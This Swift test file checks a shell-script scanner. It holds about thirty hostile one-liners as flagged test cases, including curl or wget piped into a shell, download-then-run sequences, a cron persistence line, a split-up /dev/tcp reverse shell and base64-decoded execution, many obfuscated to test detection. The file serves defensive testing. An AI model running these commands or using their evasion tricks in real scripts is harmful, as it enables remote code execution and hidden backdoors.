import AuditModel
import IntegrityJudgement
import Testing

/// Variables, folders and functions of a script: what runs is what they make of the words.
@Suite struct ScriptConstantsTests {
    static let loud: [CodeCase] = [
        CodeCase("download-to-interpreter", .high, "U=http://203.0.113.9/x\nD=$(command -v curl)\n$D $U | $SHELL"),
        CodeCase("download-to-interpreter", .high, "D=`which wget`; $D -qO- http://203.0.113.9/x | sh"),
        CodeCase("download-to-interpreter", .high, "C='curl -s http://203.0.113.9/x'; $C | sh"),
        CodeCase("download-to-interpreter", .high, "get() { $TOOL http://203.0.113.9/x | sh; }\nTOOL=curl\nget"),
        CodeCase("download-to-interpreter", .high, "function get { $TOOL http://203.0.113.9/x | sh; }\nTOOL=curl\nget"),
        CodeCase("download-to-interpreter", .high, "S=bash; curl http://203.0.113.9/x | ${S:-cat}"),
        CodeCase("download-to-interpreter", .high, "curl http://203.0.113.9/x | ${S:-sh}"),
        CodeCase("download-to-interpreter", .high, "for t in wget curl; do $t http://203.0.113.9/x | sh; done"),
        CodeCase("download-to-interpreter", .high, "export T=curl; eval \"$T http://203.0.113.9/x | sh\""),
        CodeCase("download-to-interpreter", .high, "$(echo curl) http://203.0.113.9/x | $\"sh\""),
        CodeCase("download-to-interpreter", .high, "c=cu; c+=rl; $c http://203.0.113.9/x | sh"),
        CodeCase("download-to-interpreter", .high, "X=${Y:-$(curl http://203.0.113.9/x | sh)}"),
        CodeCase("download-to-interpreter", .high, "P='curl http://203.0.113.9/x | sh'; sh -c \"$P\""),
        CodeCase(
            "download-to-interpreter", .high, "D=cat; test -f /x || D=curl; D=cat; true; $D http://203.0.113.9/x | sh"),
        CodeCase("download-then-run", .high, "c=cu; ${c}rl -s http://203.0.113.9/x -o /opt/x; sh /opt/x"),
        CodeCase("download-then-run", .high, "T=$(mktemp); curl -s http://203.0.113.9/x > \"$T\"; bash \"${T}\""),
        CodeCase("download-then-run", .high, "cd /usr/lib/x; curl -sO http://203.0.113.9/y; sh y"),
        CodeCase("download-then-run", .high, "cd /usr/lib/x; wget -q http://203.0.113.9/y; chmod +x y; ./y"),
        CodeCase("download-then-run", .high, "cd /usr/lib/x; wget -q http://203.0.113.9/y; /usr/lib/x/y"),
        CodeCase("download-then-run", .high, "wget -P /opt http://203.0.113.9/y; cp /opt/y /usr/bin/z; /usr/bin/z"),
        CodeCase(
            "download-then-run", .high,
            "curl -o /opt/a.tar http://203.0.113.9/a; tar xf /opt/a.tar -C /opt/a; /opt/a/b/run"),
        CodeCase("download-then-run", .high, "wget -O /opt/a.deb http://203.0.113.9/a; dpkg -i /opt/a.deb"),
        CodeCase("download-then-run", .high, "wget -O /opt/a http://203.0.113.9/a; sh < /opt/a"),
        CodeCase("download-then-run", .high, "cd /opt; wget -O - http://203.0.113.9/a | tar xz; ./a/run"),
        CodeCase("download-to-interpreter", .high, "echo 'curl http://203.0.113.9/x | sh' > /etc/cron.hourly/x"),
        CodeCase("download-to-interpreter", .high, "echo 'curl http://203.0.113.9/x | sh' | sh"),
        CodeCase("download-to-interpreter", .high, "awk 'BEGIN{system(\"curl http://203.0.113.9/x|sh\")}'"),
        CodeCase("network-device", .high, "a=/dev/tc; b=p/203.0.113.9/9; exec 5<>$a$b; sh <&5 >&5"),
        CodeCase("program-in-world-writable-folder", .high, "D=/var/tmp; $D/agent"),
        CodeCase("program-in-world-writable-folder", .high, "cd /tmp && ./agent"),
        CodeCase("program-in-world-writable-folder", .high, "cd /usr/../tmp; sh setup"),
        CodeCase("program-in-world-writable-folder", .high, "PATH=/dev/shm:$PATH; agent"),
        CodeCase("program-in-world-writable-folder", .high, "//tmp//agent"),
        CodeCase("decoded-code", .high, "B='base64 -d'; echo aWQK | $B | sh"),
    ]

    @Test(arguments: loud)
    func `constants are put in before a script is judged`(_ attack: CodeCase) {
        #expect(attack.loudest == attack.severity)
    }

    static let silent = [
        "D=$(command -v curl); test -n \"$D\" && echo sh",
        "U=http://203.0.113.9/x; echo \"curl $U | sh\"",
        "echo 'curl http://203.0.113.9/x | sh' >&2",
        "D='$C'; C=curl; echo $D | sh -s",
        "T=$(mktemp); echo x > \"$T\"; cat \"${T}\"",
        "cd /tmp; cat x > y; rm -f y",
        "( cd /tmp; tar xf /usr/share/x.tar ); ./x",
        "S=sh; echo ${S}ell",
        "D=$(mktemp -d); cd \"$D\"; ./configure",
        "P=${P:-/tmp}; echo $P/agent",
    ]

    @Test(arguments: silent)
    func `a value where it runs nothing is silent`(_ code: String) {
        #expect(CodeCase("", .info, code).matches.filter { $0.severity > .low }.map(\.pattern) == [])
    }

    @Test(arguments: [
        "a=x\n" + String(repeating: "a=$a$a\n", count: 200) + "echo $a",
        String(repeating: "cd x\n", count: 3_000),
        String(repeating: "for i in a b c d e f g h; do echo $i; done\n", count: 1_000),
    ])
    func `values that grow are followed no further than a path or a word goes`(_ code: String) {
        #expect(CodeCase("", .info, code).matches.isEmpty)
    }
}
